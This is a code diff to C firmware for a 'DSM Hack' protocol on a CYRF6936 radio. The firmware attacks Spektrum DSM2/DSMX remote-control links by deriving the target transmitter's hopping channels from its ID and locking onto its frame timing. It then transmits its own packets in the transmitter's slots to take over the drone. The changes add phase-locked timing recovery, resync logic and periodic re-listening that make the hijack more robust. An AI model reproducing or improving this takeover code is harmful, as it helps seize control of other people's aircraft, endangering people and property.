@@ -27,8 +27,12 @@
 #include "modules/ant_switch.h"
 #include "modules/cyrf6936.h"
 #include "modules/pprzlink.h"
+#include "modules/counter.h"
+#include "modules/tx_filter.h"
+#include "modules/trace.h"
 #include "modules/console.h"
 #include "helper/dsm.h"
+#include "helper/pll.h"
 
 /* Main protocol functions */
 static void protocol_dsm_hack_init(void);
@@ -42,6 +46,7 @@ static void protocol_dsm_hack_parse_arg(uint8_t type, uint8_t *arg, uint16_t len
 /* Main protocol structure */
 struct protocol_t protocol_dsm_hack = {
 	.name = "DSM Hack",
+	.radio = PROTOCOL_RADIO_CYRF,
 	.init = protocol_dsm_hack_init,
 	.deinit = protocol_dsm_hack_deinit,
 	.start = protocol_dsm_hack_start,
@@ -57,12 +62,20 @@ static void protocol_dsm_hack_receive(bool error);
 static void protocol_dsm_hack_send(bool error);
 static void protocol_dsm_hack_next(void);
 static void protocol_dsm_build_packet(void);
+static void protocol_dsm_hack_set_frame(bool is_short);
+static void protocol_dsm_hack_set_recv(uint32_t offset);
+static void protocol_dsm_hack_set_send(uint32_t offset);
+static void protocol_dsm_hack_resync(void);
+
+/* The offset of channel B in the frame in microseconds */
+#define DSM_HACK_CHB_OFFSET			(DSM_CHA_CHB_SEND_TIME * 10)
 
 /* Internal variables */
 static enum dsm_hack_status_t dsm_hack_status;		//*< The current status of the hacking */
 static bool is_dsmx;															//*< Whether the target is DSMX or DSM2 */
 static uint8_t txid[4];														//*< The transmitter ID to hack */
 static uint8_t channels[DSM_MAX_USED_CHANNELS];		//*< The channels the TX uses */
+static struct cyrf_hop_t hops[DSM_MAX_USED_CHANNELS];	//*< The precompiled hops for each channel */
 static uint8_t chan_idx;													//*< The current channel index */
 static uint8_t sop_col;														//*< Start Of Packet column number */
 static uint8_t data_col;													//*< Data column number */
@@ -70,10 +83,10 @@ static uint16_t crc_seed;													//*< The current crc_seed */
 static uint8_t missed_packets;										//*< The amount of missed packets since last receive */
 static uint16_t succ_packets;											//*< Amount of succesfully received packets */
 static bool recv_time_short;											//*< Whether to use the short AB timeing */
-static uint8_t pkt_throttle;											//*< Transmitting packet throttleing to PC */
-static uint16_t time_chana;												//*< The last receive time of channel A */
-static uint16_t time_chanb;												//*< The last receive time of channel B */
+static struct pll_t frame_pll;										//*< The recovered frame timing of the transmitter */
+static uint16_t resyncs;													//*< The amount of times the sync was lost */
 static bool start_takeover;												//*< If we need to start taking over the drone */
+static uint8_t takeover_frames;										//*< The amount of frames sent since the takeover last listened */
 static bool is_11bit;															//*< If the channels need to be encoded in 11bits */
 static uint8_t transmit_packet[16];								//*< The packet to transmit */
 
@@ -88,15 +101,14 @@ static void protocol_dsm_hack_init(void) {
 	// Initialize variables
 	dsm_hack_status = DSM_HACK_SYNC;
 	chan_idx = 0;
-	pkt_throttle = 0;
 	recv_time_short = false;
 	start_takeover = false;
 	is_11bit = false;
 
 #ifdef CYRF_DEV_ANT
-	// Switch the antenna to the CYRF
+	// Claim the antenna for the CYRF
 	bool ant_state[] = CYRF_DEV_ANT;
-	ant_switch(ant_state);
+	ant_switch_claim(ANT_SWITCH_CYRF, ant_state, true);
 #endif
 
 	// Configure the CYRF
@@ -122,6 +134,7 @@ static void protocol_dsm_hack_init(void) {
  */
 static void protocol_dsm_hack_deinit(void) {
 	timer1_register_callback(NULL);
+	ant_switch_release(ANT_SWITCH_CYRF);
 	cyrf_register_recv_callback(NULL);
 	cyrf_register_send_callback(NULL);
 	console_print("\r\nDSM Hack deinitialized");
@@ -135,10 +148,13 @@ static void protocol_dsm_hack_start(void) {
 	// Start to synchronize with the transmitter
 	dsm_hack_status = DSM_HACK_SYNC;
 	chan_idx = 0;
-	pkt_throttle = 0;
+	missed_packets = 0;
+	resyncs = 0;
 	recv_time_short = false;
 	start_takeover = false;
+	takeover_frames = 0;
 	is_11bit = false;
+	pll_init(&frame_pll, DSM_SEND_TIME * 10, DSM_HACK_RECV_MARGIN * 10);
 
 	// Calculate the crc_seed, sop_col and data_col based on the transmitter ID
 	crc_seed = ~((txid[0] << 8) + txid[1]);
@@ -148,11 +164,13 @@ static void protocol_dsm_hack_start(void) {
 	// Calculate channels for DSMX
 	console_print("\r\n[%d, %d] ", sop_col, data_col);
 	if(is_dsmx) {
-		dsm_generate_channels_dsmx(txid, channels);
+		if(dsm_get_channels_dsmx(txid, channels))
+			console_print("(cached) ");
 		for(i = 0; i < 23; i++)
 			console_print("%d, ", channels[i]);
 		chan_idx = 22;
 	}
+	dsm_init_hops(hops, channels, is_dsmx? DSM_MAX_USED_CHANNELS : 2, !is_dsmx, sop_col, data_col);
 
 	// Go to the next channel and start receiving
 	protocol_dsm_hack_next();
@@ -160,6 +178,8 @@ static void protocol_dsm_hack_start(void) {
 	timer1_set(DSM_SYNC_RECV_TIME);
 
 	console_print("\r\nDSM Hack started...");
+
+	trace_state(TRACE_PROT_DSM_HACK, dsm_hack_status);
 }
 
 /**
@@ -186,7 +206,9 @@ static void protocol_dsm_hack_run(void) {
  * Print the status of the DSM hacker
  */
 static void protocol_dsm_hack_status(void) {
-	
+	console_print("\r\nDSM Hack: %s, frame %d.%02d us, phase error %d us, resyncs %d",
+			pll_locked(&frame_pll)? "locked" : "acquiring", (int)(frame_pll.period >> 8), (int)(((frame_pll.period & 0xFF) * 100) >> 8),
+			(int)(frame_pll.error / 256), resyncs);
 }
 
 /**
@@ -216,7 +238,7 @@ static void protocol_dsm_hack_timer(void) {
 	switch(dsm_hack_status) {
 		/* We are trying to synchronize with the transmitter */
 		case DSM_HACK_SYNC:
-			recv_time_short = false;
+			protocol_dsm_hack_set_frame(false);
 			succ_packets = 0;
 
 			// Goto the next channel
@@ -224,15 +246,14 @@ static void protocol_dsm_hack_timer(void) {
 			protocol_dsm_hack_next();
 			cyrf_start_recv();
 
-			timer1_set(DSM_SYNC_RECV_TIME);
+			timer1_set_next(DSM_SYNC_RECV_TIME);
 			break;
 
 		/* We were trying to receive at channel A */
 		case DSM_HACK_RECV_A:
 			// If we missed too many packets goto synchronize again
-			if(missed_packets > 3) {
-				dsm_hack_status = DSM_HACK_SYNC;
-				timer1_set(DSM_SYNC_RECV_TIME);
+			if(++missed_packets > 3) {
+				protocol_dsm_hack_resync();
 				break;
 			}
 
@@ -241,16 +262,18 @@ static void protocol_dsm_hack_timer(void) {
 			protocol_dsm_hack_next();
 			cyrf_start_recv();
 
-			timer1_set(DSM_RECV_TIME_B);
+			if(pll_locked(&frame_pll))
+				protocol_dsm_hack_set_recv(DSM_HACK_CHB_OFFSET);
+			else
+				timer1_set_next(DSM_RECV_TIME_B);
 			dsm_hack_status = DSM_HACK_RECV_B;
 			break;
 
 		/* We were trying to receive at channel B */
 		case DSM_HACK_RECV_B:
 			// If we missed too many packets goto synchronize again
-			if(missed_packets > 3) {
-				dsm_hack_status = DSM_HACK_SYNC;
-				timer1_set(DSM_SYNC_RECV_TIME);
+			if(++missed_packets > 3) {
+				protocol_dsm_hack_resync();
 				break;
 			}
 
@@ -260,31 +283,42 @@ static void protocol_dsm_hack_timer(void) {
 			cyrf_start_recv();
 
 			// Determine the time based on received packets
-			if(recv_time_short)
-				timer1_set(DSM_RECV_TIME_A_SHORT);
+			if(pll_locked(&frame_pll))
+				protocol_dsm_hack_set_recv(0);
+			else if(recv_time_short)
+				timer1_set_next(DSM_RECV_TIME_A_SHORT);
 			else
-				timer1_set(DSM_RECV_TIME_A);
+				timer1_set_next(DSM_RECV_TIME_A);
 			dsm_hack_status = DSM_HACK_RECV_A;
 			break;
 
 		/* We are transmitting channel A */
 		case DSM_HACK_SEND_A:
-			timer1_set(time_chanb+20);
 			protocol_dsm_build_packet();
-
 			cyrf_send_len(transmit_packet, 16);
+
+			// Receive channel B once in a while, so the frame timing keeps following the transmitter
+			if(++takeover_frames >= DSM_HACK_LISTEN_FRAMES) {
+				takeover_frames = 0;
+				protocol_dsm_hack_set_recv(DSM_HACK_CHB_OFFSET);
+				dsm_hack_status = DSM_HACK_RECV_B;
+				break;
+			}
+
+			protocol_dsm_hack_set_send(DSM_HACK_CHB_OFFSET);
 			dsm_hack_status = DSM_HACK_SEND_B;
 			break;
 
 		/* We are transmitting channel B */
 		case DSM_HACK_SEND_B:
-			timer1_set(time_chana+20);
-
 			cyrf_send_len(transmit_packet, 16);
+			protocol_dsm_hack_set_send(0);
 			dsm_hack_status = DSM_HACK_SEND_A;
 			break;
 
 	}
+
+	trace_state(TRACE_PROT_DSM_HACK, dsm_hack_status);
 }
 
 static void protocol_dsm_hack_receive(bool error) {
@@ -323,44 +357,27 @@ static void protocol_dsm_hack_receive(bool error) {
 			protocol_dsm_hack_next();
 			missed_packets = 0;
 
+			// In lock the packet is the one which was waited for, else guess from the time since the last one
+			bool locked = pll_locked(&frame_pll);
+			bool is_chanb = locked? (dsm_hack_status == DSM_HACK_RECV_B) : (!error && succ_packets > 0 && timer < DSM_RECV_TIME_B);
+
 			// Reset timer correctly
 			if(!error) {
 				succ_packets = succ_packets < 5000? (succ_packets + 1): 5000;
 				//console_print("S%d",channels[chan_idx]);
 
-				// Start takeover
-				if(succ_packets > 15) {
-					cyrf_start_transmit();
-					protocol_dsm_build_packet();
-					//console_print("\r\nS %d %d", time_chana, time_chanb);
-
-					if(dsm_hack_status == DSM_HACK_RECV_A) {
-						dsm_hack_status = DSM_HACK_SEND_B;
-						timer1_set(time_chanb);
-					}
-					else {
-						dsm_hack_status = DSM_HACK_SEND_A;
-						timer1_set(time_chana);
-					}
-
-					return;
-				}
-
 				// Set the timer to the correct values
-				if(succ_packets > 1 && timer < DSM_RECV_TIME_B) {
-					time_chanb = timer+60;
+				if(is_chanb) {
 					dsm_hack_status = DSM_HACK_RECV_A;
 					if(recv_time_short)
 						timer1_set(DSM_RECV_TIME_A_SHORT);
 					else
 						timer1_set(DSM_RECV_TIME_A);
-				} else if(succ_packets > 2 && timer < DSM_RECV_TIME_A_SHORT) {
-					time_chana = timer+60;
-					recv_time_short = true;
+				} else if(!locked && succ_packets > 2 && timer < DSM_RECV_TIME_A_SHORT) {
+					protocol_dsm_hack_set_frame(true);
 					dsm_hack_status = DSM_HACK_RECV_B;
 					timer1_set(DSM_RECV_TIME_B);
 				} else {
-					time_chana = timer+60;
 					dsm_hack_status = DSM_HACK_RECV_B;
 					timer1_set(DSM_RECV_TIME_B);
 				}
@@ -369,11 +386,31 @@ static void protocol_dsm_hack_receive(bool error) {
 				//console_print("E%d",channels[chan_idx]);
 			}
 
-			// Send the packet to the ground station
-			pkt_throttle = (pkt_throttle + 1) % 21; // Uneven because then we receive both packets
-			if(!error && pkt_throttle == 0) {
+			// Recover the frame timing, a packet with a bad CRC still arrived in time once locked
+			if(!error || locked)
+				pll_update(&frame_pll, cyrf_get_rx_time(), is_chanb? DSM_HACK_CHB_OFFSET : 0);
+
+			if(pll_locked(&frame_pll)) {
+				// Start takeover in the next slot
+				if(!error && start_takeover && pll_settled(&frame_pll)) {
+					cyrf_start_transmit();
+					protocol_dsm_build_packet();
+					dsm_hack_status = is_chanb? DSM_HACK_SEND_A : DSM_HACK_SEND_B;
+					protocol_dsm_hack_set_send(is_chanb? 0 : DSM_HACK_CHB_OFFSET);
+
+					trace_state(TRACE_PROT_DSM_HACK, dsm_hack_status);
+					return;
+				}
+
+				// Wait for the next packet at its predicted arrival
+				dsm_hack_status = is_chanb? DSM_HACK_RECV_A : DSM_HACK_RECV_B;
+				protocol_dsm_hack_set_recv(is_chanb? 0 : DSM_HACK_CHB_OFFSET);
+			}
+
+			// Send the packet to the ground station within the rate limit of the transmitter
+			if(!error && tx_filter_rate(0, (packet[1] << 8) | packet[2], cyrf_get_rx_time())) {
 				uint8_t chip_id = 0;
-				pprz_msg_send_RECV_DATA(&pprzlink.tp.trans_tx, &pprzlink.dev, 1, &chip_id, packet_length+5, packet);
+				pprzlink_send_recv_data(chip_id, cyrf_get_rx_time(), packet_length+5, packet);
 				LED_TOGGLE(LED_RX);
 			}
 		}
@@ -381,24 +418,72 @@ static void protocol_dsm_hack_receive(bool error) {
 
 	// Start receiving
 	cyrf_start_recv();
+
+	trace_state(TRACE_PROT_DSM_HACK, dsm_hack_status);
 }
 
 /**
  * Whenever a packet has been send
  */
 static void protocol_dsm_hack_send(bool error __attribute__((unused))) {
+	if(dsm_hack_status == DSM_HACK_RECV_B) {
+		protocol_dsm_hack_next();
+		cyrf_start_recv();
+		return;
+	}
+
 	cyrf_start_transmit();
 	protocol_dsm_hack_next();
 	//console_print("S");
 }
 
+/**
+ * Set the nominal frame time, which resets the recovered timing when it changes
+ * @param[in] is_short Whether the transmitter uses the short frame time
+ */
+static void protocol_dsm_hack_set_frame(bool is_short) {
+	if(is_short != recv_time_short)
+		pll_init(&frame_pll, (is_short? DSM_SEND_TIME_SHORT : DSM_SEND_TIME) * 10, DSM_HACK_RECV_MARGIN * 10);
+	recv_time_short = is_short;
+}
+
+/**
+ * Receive until the predicted arrival of the next packet in a slot
+ * @param[in] offset The offset of the slot in the frame in microseconds
+ */
+static void protocol_dsm_hack_set_recv(uint32_t offset) {
+	timer1_set_at_us(pll_next(&frame_pll, counter_get_us(), offset) + DSM_HACK_RECV_MARGIN * 10);
+}
+
+/**
+ * Send at the predicted start of the next transmitter packet in a slot
+ * The prediction is for the arrival at the end of the packet, so the air time is subtracted.
+ * @param[in] offset The offset of the slot in the frame in microseconds
+ */
+static void protocol_dsm_hack_set_send(uint32_t offset) {
+	uint32_t lead = (DSM_PACKET_TIME + DSM_HACK_SEND_LEAD) * 10;
+	timer1_set_at_us(pll_next(&frame_pll, counter_get_us() + lead, offset) - lead);
+}
+
+/**
+ * Lost the transmitter, so synchronize again while keeping the estimated frame time
+ */
+static void protocol_dsm_hack_resync(void) {
+	dsm_hack_status = DSM_HACK_SYNC;
+	pll_unlock(&frame_pll);
+	missed_packets = 0;
+	if(resyncs < 0xFFFF)
+		resyncs++;
+	timer1_set_next(DSM_SYNC_RECV_TIME);
+}
+
 /**
  * Go to the next channel for scanning
  */
 static void protocol_dsm_hack_next(void) {
 	chan_idx = is_dsmx? (chan_idx + 1) % DSM_MAX_USED_CHANNELS : (chan_idx + 1) % 2;
 	crc_seed = ~crc_seed;
-	dsm_set_channel(channels[chan_idx], !is_dsmx, sop_col, data_col, crc_seed);
+	cyrf_hop(&hops[chan_idx], crc_seed);
 }
 
 /**